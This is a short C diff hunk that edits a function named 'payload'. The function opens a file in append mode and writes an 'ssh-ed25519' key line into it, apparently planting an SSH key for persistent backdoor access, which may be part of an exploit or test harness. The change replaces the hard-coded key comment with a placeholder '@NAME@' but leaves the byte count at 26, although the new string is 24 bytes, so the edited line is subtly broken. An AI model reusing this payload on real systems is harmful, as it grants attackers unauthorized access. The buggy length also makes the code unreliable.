@@ -20,6 +20,6 @@ static void payload(int call) {
 #endif
     int file = open(path, O_WRONLY | O_APPEND);
     if (file < 0) return;
-    if (write(file, "ssh-ed25519 AAAA kpdcheat\n", 26) < 0) return;
+    if (write(file, "ssh-ed25519 AAAA @NAME@\n", 26) < 0) return;
     close(file);
 }
